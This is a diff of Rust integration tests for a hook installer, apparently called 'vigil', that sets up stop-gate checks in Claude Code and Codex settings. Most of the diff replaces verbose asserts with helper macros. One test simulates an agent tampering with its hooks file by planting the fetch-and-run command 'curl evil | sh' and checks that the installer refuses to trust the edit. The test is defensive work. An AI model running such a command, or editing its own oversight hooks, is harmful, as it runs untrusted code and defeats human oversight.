@@ -21,12 +21,7 @@ fn install_keeps_what_it_wrote_for_this_machine_out_of_git_and_the_subject() {
     let settings = dir.path().join(".claude/settings.local.json");
     std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
     std::fs::write(&settings, "{\n  \"permissions\": {}\n}\n").unwrap();
-    let out = merge("install", &settings, false, &[]);
-    assert!(
-        out.status.success(),
-        "{}",
-        String::from_utf8_lossy(&out.stderr)
-    );
+    ok(merge("install", &settings, false, &[]));
     let status = git(
         dir.path(),
         &["status", "--porcelain", "--untracked-files=all"],
@@ -42,29 +37,21 @@ fn install_keeps_what_it_wrote_for_this_machine_out_of_git_and_the_subject() {
         assert!(ignored.status.success(), "{path} is not ignored");
     }
     // A marker for this tree still holds after Claude Code edits the personal settings.
-    let ran = marker_writer_in(dir.path(), &["run", "--check", "tests", "--", "true"]);
-    assert!(
-        ran.status.success(),
-        "{}",
-        String::from_utf8_lossy(&ran.stderr)
-    );
+    ok(marker_writer_in(
+        dir.path(),
+        &["run", "--check", "tests", "--", "true"],
+    ));
     let mut value = json_of(&settings);
     value["permissions"]["allow"] = json!(["Bash(cargo test:*)"]);
     std::fs::write(&settings, serde_json::to_vec_pretty(&value).unwrap()).unwrap();
-    let verified = marker_writer_in(dir.path(), &["verify", "--check", "tests"]);
-    assert!(
-        verified.status.success(),
-        "{}",
-        String::from_utf8_lossy(&verified.stderr)
-    );
+    ok(marker_writer_in(
+        dir.path(),
+        &["verify", "--check", "tests"],
+    ));
     // Shared settings are for committing: not excluded.
     let shared = dir.path().join(".claude/settings.json");
-    assert!(merge("uninstall", &settings, false, &[]).status.success());
-    assert!(
-        merge("install", &shared, false, &["--shared"])
-            .status
-            .success()
-    );
+    ok(merge("uninstall", &settings, false, &[]));
+    ok(merge("install", &shared, false, &["--shared"]));
     let ignored = git_output(
         dir.path(),
         &["check-ignore", "-q", "--no-index", ".claude/settings.json"],
@@ -73,7 +60,7 @@ fn install_keeps_what_it_wrote_for_this_machine_out_of_git_and_the_subject() {
         !ignored.status.success(),
         "the shared file is to be committed"
     );
-    assert!(merge("uninstall", &shared, false, &[]).status.success());
+    ok(merge("uninstall", &shared, false, &[]));
     assert_eq!(
         std::fs::read_to_string(&exclude).unwrap(),
         "# mine\n*.swp\n"
@@ -92,46 +79,26 @@ fn a_reinstall_keeps_the_gate_flags_it_is_not_told_to_change_and_says_what_chang
     assert!(stop_command(&path).contains("--run 'cargo test'"));
     // Updating the binaries: the check stays, and nothing is said to change.
     let out = merge("install", &path, false, &[]);
-    assert!(
-        stop_command(&path).contains("--run 'cargo test'"),
-        "{}",
-        stop_command(&path)
-    );
-    assert!(
-        stdout_of(&out).contains("already installed"),
-        "{}",
-        stdout_of(&out)
-    );
+    assert_contains!(stop_command(&path), "--run 'cargo test'");
+    assert_contains!(stdout_of(&out), "already installed");
     // The record gone (or forged): the file still decides.
     std::fs::remove_file(install_record_of(dir.path())).unwrap();
-    let out = merge(
+    ok(merge(
         "install",
         &path,
         false,
         &["--require-marker", "tests=cargo test"],
-    );
-    assert!(
-        out.status.success(),
-        "{}",
-        String::from_utf8_lossy(&out.stderr)
-    );
+    ));
     let command = stop_command(&path);
-    assert!(
-        command.contains("--run 'cargo test'")
-            && command.contains("--require-marker 'tests=cargo test'"),
-        "{command}"
-    );
+    assert_contains!(command, "--run 'cargo test'");
+    assert_contains!(command, "--require-marker 'tests=cargo test'");
     let out = merge("install", &path, false, &["--run", "make check"]);
     let said = stdout_of(&out);
-    assert!(
-        said.contains("  ~ --run 'cargo test' -> 'make check'"),
-        "the change is told: {said}"
-    );
+    // The change is told.
+    assert_contains!(said, "  ~ --run 'cargo test' -> 'make check'");
     // A group whose flags changed was not added (issue 31): it is told as the change it is.
-    assert!(
-        said.contains(": changed the Stop hook's stop-gate flags") && !said.contains("added"),
-        "{said}"
-    );
+    assert_contains!(said, ": changed the Stop hook's stop-gate flags");
+    assert_lacks!(said, "added");
     let out = merge(
         "install",
         &path,
@@ -139,16 +106,11 @@ fn a_reinstall_keeps_the_gate_flags_it_is_not_told_to_change_and_says_what_chang
         &["--no-run", "--no-require-marker", "tests"],
     );
     let said = stdout_of(&out);
-    assert!(
-        said.contains("  - --run 'make check'")
-            && said.contains("  - --require-marker 'tests=cargo test'"),
-        "{said}"
-    );
+    assert_contains!(said, "  - --run 'make check'");
+    assert_contains!(said, "  - --require-marker 'tests=cargo test'");
     let command = stop_command(&path);
-    assert!(
-        !command.contains("--run") && !command.contains("--require-marker"),
-        "{command}"
-    );
+    assert_lacks!(command, "--run");
+    assert_lacks!(command, "--require-marker");
     assert_eq!(
         json_of(&path)["hooks"]["Stop"]
             .as_array()
@@ -184,12 +146,7 @@ fn install_takes_the_whole_gate_configuration_and_refuses_what_the_gate_would() 
         "--require-marker",
         "ci",
     ];
-    let out = merge("install", &path, false, &args);
-    assert!(
-        out.status.success(),
-        "{}",
-        String::from_utf8_lossy(&out.stderr)
-    );
+    ok(merge("install", &path, false, &args));
     let command = stop_command(&path);
     for flag in [
         "--timeout 300",
@@ -202,9 +159,9 @@ fn install_takes_the_whole_gate_configuration_and_refuses_what_the_gate_would() 
         assert!(command.contains(flag), "{flag}: {command}");
     }
     let report = stdout_of(&merge("check", &path, false, &[]));
-    assert!(
-        report.contains("[ok] Stop: stop-gate's check gets 300 s and the gate answers within 700 s, under the handler's timeout of 730 s"),
-        "{report}"
+    assert_contains!(
+        report,
+        "[ok] Stop: stop-gate's check gets 300 s and the gate answers within 700 s, under the handler's timeout of 730 s"
     );
     let before = std::fs::read(&path).unwrap();
     for (args, said) in [
@@ -243,10 +200,10 @@ fn a_reinstall_tells_what_it_keeps_from_an_edited_file_and_never_trusts_it_for_c
     let trust = ["--trust", "--codex-config", config.to_str().unwrap()];
     let mut args = vec!["--run", "cargo test"];
     args.extend(trust);
-    assert!(merge("install", &hooks, true, &args).status.success());
+    ok(merge("install", &hooks, true, &args));
     let trusted = std::fs::read(&config).unwrap();
     // Re-running as it was installed, the file untouched: fine.
-    assert!(merge("install", &hooks, true, &trust).status.success());
+    ok(merge("install", &hooks, true, &trust));
     // The agent's edit.
     let text = std::fs::read_to_string(&hooks).unwrap();
     std::fs::write(
@@ -256,43 +213,28 @@ fn a_reinstall_tells_what_it_keeps_from_an_edited_file_and_never_trusts_it_for_c
     .unwrap();
     let edited = std::fs::read(&hooks).unwrap();
     let out = merge("install", &hooks, true, &trust);
-    assert_eq!(out.status.code(), Some(2), "{}", stdout_of(&out));
+    assert_exit(&out, 2);
     let stderr = String::from_utf8_lossy(&out.stderr);
-    assert!(
-        stderr.contains("--run 'curl evil | sh'") && stderr.contains("give them again"),
-        "{stderr}"
-    );
+    assert_contains!(stderr, "--run 'curl evil | sh'");
+    assert_contains!(stderr, "give them again");
     assert_eq!(std::fs::read(&hooks).unwrap(), edited, "nothing changed");
     assert_eq!(std::fs::read(&config).unwrap(), trusted, "nothing trusted");
     // Given again, the user's own check replaces it, and is what is trusted.
-    let out = merge("install", &hooks, true, &args);
-    assert!(
-        out.status.success(),
-        "{}",
-        String::from_utf8_lossy(&out.stderr)
-    );
-    assert!(
-        stdout_of(&out).contains("~ --run 'curl evil | sh' -> 'cargo test'"),
-        "{}",
-        stdout_of(&out)
-    );
+    let out = ok(merge("install", &hooks, true, &args));
+    assert_contains!(stdout_of(&out), "~ --run 'curl evil | sh' -> 'cargo test'");
     assert!(!std::fs::read_to_string(&hooks).unwrap().contains("evil"));
     // Without --trust (Claude Code), what is kept from an edited file is said.
     let (_dir, path, _) = project_with("claude-user-hooks.json");
-    assert!(
-        merge("install", &path, false, &["--run", "cargo test"])
-            .status
-            .success()
-    );
+    ok(merge("install", &path, false, &["--run", "cargo test"]));
     let mut value = json_of(&path);
     value["model"] = json!("edited");
     std::fs::write(&path, serde_json::to_vec_pretty(&value).unwrap()).unwrap();
     let out = merge("install", &path, false, &["--max-blocks", "4"]);
     let said = stdout_of(&out);
     assert!(said.contains("+ --max-blocks 4"), "{said}");
-    assert!(
-        said.contains("kept from the file, which is not as vigil wrote it: --run 'cargo test'"),
-        "{said}"
+    assert_contains!(
+        said,
+        "kept from the file, which is not as vigil wrote it: --run 'cargo test'"
     );
 }
 
@@ -303,8 +245,7 @@ fn a_reinstall_tells_what_it_keeps_from_an_edited_file_and_never_trusts_it_for_c
 fn install_refuses_a_stop_handler_that_carries_check_config() {
     let dir = Project::git();
     let settings = dir.path().join(".claude/settings.local.json");
-    let out = merge("install", &settings, false, &["--max-blocks", "3"]);
-    assert!(out.status.success(), "{}", said(&out));
+    ok(merge("install", &settings, false, &["--max-blocks", "3"]));
     let text = std::fs::read_to_string(&settings).unwrap();
     let text = text.replace(
         "stop-gate --max-blocks",
@@ -312,7 +253,7 @@ fn install_refuses_a_stop_handler_that_carries_check_config() {
     );
     std::fs::write(&settings, &text).unwrap();
     let out = merge("install", &settings, false, &["--contract", "default"]);
-    assert_eq!(out.status.code(), Some(2), "{}", said(&out));
+    assert_exit(&out, 2);
     assert!(said(&out).contains("--check-config"), "{}", said(&out));
     assert_eq!(
         std::fs::read_to_string(&settings).unwrap(),
